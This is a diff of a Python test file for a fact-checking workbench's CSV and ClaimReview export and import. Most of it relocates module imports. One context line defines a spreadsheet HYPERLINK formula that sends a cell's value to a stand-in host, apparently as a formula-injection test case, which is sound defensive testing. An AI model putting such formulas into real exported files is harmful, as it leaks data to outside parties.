@@ -7,7 +7,7 @@ import json
 from datetime import UTC, datetime
 from pathlib import Path
 
-from workbench.formats import (
+from workbench.exchange.formats import (
     CSV_COLUMNS,
     NO_VERDICT,
     SUMMARY_LIMIT,
@@ -17,7 +17,7 @@ from workbench.formats import (
     write_claimreview,
     write_csv,
 )
-from workbench.scope import ExportScope, gather
+from workbench.exchange.scope import ExportScope, gather
 from workbench.workspace import Workspace
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -149,7 +149,7 @@ def test_scope_narrows_what_is_exported(workspace: Workspace, data: Path, tmp_pa
 def test_the_csv_export_imports_back_into_another_workspace(
     workspace: Workspace, data: Path, tmp_path: Path
 ) -> None:
-    from workbench.importers import import_posts
+    from workbench.exchange.importers import import_posts
     from workbench.workspace import Location
 
     ids = _claims(workspace, data)
